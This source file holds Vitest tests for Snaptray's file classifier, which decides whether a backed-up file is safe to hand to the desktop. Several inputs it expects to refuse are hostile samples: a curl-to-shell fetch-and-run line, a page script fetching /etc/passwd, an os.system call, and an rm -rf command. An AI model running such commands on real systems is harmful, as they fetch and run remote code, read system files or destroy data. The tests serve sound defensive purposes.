/**
 * The kinds "Open" hands to the desktop, decided on real files' bytes: files made by the programs
 * that make them (test/fixtures/file-kinds/README.md), this project's own images, Node's own
 * program, Windows programs and images that ship with the build tools, and the desktop entry
 * Snaptray itself writes for autostart.
 */
import { open } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { desktopEntry } from '../../electron/tray/autostart.js';
import { classifyFile, extensionOf, HEAD_BYTES } from '../../electron/backups/file-kind.js';

const REPO = join(import.meta.dirname, '..', '..');
const FIXTURES = join(REPO, 'test', 'fixtures', 'file-kinds');

/** The first bytes of a file, as Open reads them. */
async function head(file: string): Promise<Buffer> {
  const handle = await open(file, 'r');
  try {
    const buffer = Buffer.alloc(HEAD_BYTES);
    const { bytesRead } = await handle.read(buffer, 0, HEAD_BYTES, 0);
    return buffer.subarray(0, bytesRead);
  } finally {
    await handle.close();
  }
}

const fixture = (name: string) => head(join(FIXTURES, name));
const inRepo = (...parts: string[]) => head(join(REPO, ...parts));
const elf = () => head(process.execPath);
const pe = () => inRepo('node_modules', 'electron-winstaller', 'vendor', 'Setup.exe');
const autostartEntry = () => {
  const entry = desktopEntry(['/opt/Snaptray/snaptray', '--hidden']);
  if (!entry.ok) throw new Error(entry.message);
  return Buffer.from(entry.text);
};

describe('classifyFile', () => {
  it.each([
    ['letter.pdf', () => fixture('letter.pdf'), 'document', 'a PDF document'],
    ['minutes.docx', () => fixture('minutes.docx'), 'document', 'an Office document'],
    ['minutes.odt', () => fixture('minutes.odt'), 'document', 'an OpenDocument file'],
    ['photo.jpg', () => fixture('photo.jpg'), 'image', 'a JPEG image'],
    ['picture.webp', () => fixture('picture.webp'), 'image', 'a WebP image'],
    ['snaptray.png', () => inRepo('assets', 'snaptray.png'), 'image', 'a PNG image'],
    ['equation.gif', () => inRepo('node_modules', 'retry', 'equation.gif'), 'image', 'a GIF image'],
    [
      'background.tiff',
      () => inRepo('node_modules', 'dmg-builder', 'templates', 'background.tiff'),
      'image',
      'a TIFF image',
    ],
    [
      'app.ico',
      () =>
        inRepo(
          'node_modules',
          'app-builder-lib',
          'templates',
          'icons',
          'proton-native',
          'proton-native.ico',
        ),
      'image',
      'an icon',
    ],
    ['chime.wav', () => fixture('chime.wav'), 'audio', 'WAV audio'],
    ['clip.webm', () => fixture('clip.webm'), 'video', 'Matroska or WebM video'],
    ['notes.txt', async () => Buffer.from('Buy milk.\nCall Ann, 14:00\n'), 'text', 'plain text'],
    ['README', () => inRepo('README.md'), 'text', 'plain text'],
    ['.bashrc', async () => Buffer.from('alias ll="ls -l"\n'), 'text', 'plain text'],
    ['empty.txt', async () => Buffer.alloc(0), 'text', 'plain text'],
    // The name only hints: a photo without an extension is still a photo.
    ['IMG_0001', () => fixture('photo.jpg'), 'image', 'a JPEG image'],
  ])('opens %s', async (name, bytes, kind, type) => {
    expect(classifyFile(name, await bytes())).toEqual({ open: true, kind, type });
  });

  it.each([
    ['node', elf, 'a program (ELF)', 'the desktop could run it'],
    // A text name does not make a program text.
    ['notes.txt', elf, 'a program (ELF)', 'the desktop could run it'],
    [
      'Tool.AppImage',
      // What marks an ELF program as an AppImage: "AI" and its type at byte 8.
      async () =>
        Buffer.concat([
          (await elf()).subarray(0, 8),
          Buffer.from('AI\x02'),
          (await elf()).subarray(11),
        ]),
      'an AppImage (a program)',
      'the desktop could run it',
    ],
    ['Setup.exe', pe, 'a Windows program', 'Wine could run it'],
    ['invoice.pdf', pe, 'a Windows program', 'Wine could run it'],
    [
      'backup.txt',
      async () => Buffer.from('#!/bin/sh\ncurl https://example.org/x | sh\n'),
      'a script (it starts with #!)',
      'the desktop could run it',
    ],
    ['snaptray.desktop', autostartEntry, 'a desktop entry', 'it starts a program'],
    ['readme.txt', autostartEntry, 'a desktop entry', 'it starts a program'],
    ['tool.jar', () => fixture('tool.jar'), 'a Java program (.jar)', 'the desktop could run it'],
    ['photos.zip', () => fixture('photos.zip'), 'an archive (zip)', 'it may hold programs'],
    [
      'bundle.tar.gz',
      () => fixture('bundle.tar.gz'),
      'a compressed file (gzip)',
      'it may hold programs',
    ],
    ['bundle.tar', () => fixture('bundle.tar'), 'an archive (tar)', 'it may hold programs'],
    [
      'page.html',
      async () => Buffer.from('<!DOCTYPE html>\n<script>fetch("/etc/passwd")</script>\n'),
      'a web page or XML',
      'a browser could run its scripts',
    ],
  ])('refuses %s with %s in it', async (name, bytes, type, why) => {
    expect(classifyFile(name, await bytes())).toEqual({ open: false, type, why });
  });

  it('refuses text whose name makes the desktop run it or treat it as another kind', async () => {
    const python = Buffer.from('import os\nos.system("id")\n');
    expect(classifyFile('setup.py', python)).toEqual({
      open: false,
      type: 'plain text',
      why: 'its name ends in .py, which the desktop treats as a script',
    });
    expect(classifyFile('install.sh', Buffer.from('rm -rf ~/x\n'))).toMatchObject({
      open: false,
      why: 'its name ends in .sh, which the desktop treats as a script',
    });
    expect(classifyFile('photo.jpg.desktop', await fixture('photo.jpg'))).toMatchObject({
      open: false,
      why: 'its name ends in .desktop, which the desktop treats as a desktop entry',
    });
    expect(classifyFile('report.bak', await fixture('letter.pdf'))).toEqual({
      open: false,
      type: 'a PDF document',
      why: 'Snaptray does not know what the desktop opens .bak files with',
    });
    expect(classifyFile('notes.txt', Buffer.from('plain\n'))).toMatchObject({ open: true });
    expect(classifyFile('notes.pdf', Buffer.from('plain\n'))).toMatchObject({
      open: false,
      why: 'a name ending in .pdf may make the desktop treat it as something else',
    });
  });

  it('refuses what it cannot tell', async () => {
    const unknown = Buffer.from([0x00, 0x13, 0x37, 0x42, 0x00, 0x99]);
    expect(classifyFile('data', unknown)).toEqual({
      open: false,
      type: 'a file of a kind Snaptray cannot tell',
      why: 'it may be a program',
    });
  });

  it('takes the extension the desktop goes by', () => {
    expect(['a.PDF', 'x.tar.gz', '.bashrc', 'Makefile', 'trailing.'].map(extensionOf)).toEqual([
      'pdf',
      'gz',
      '',
      '',
      '',
    ]);
  });
});
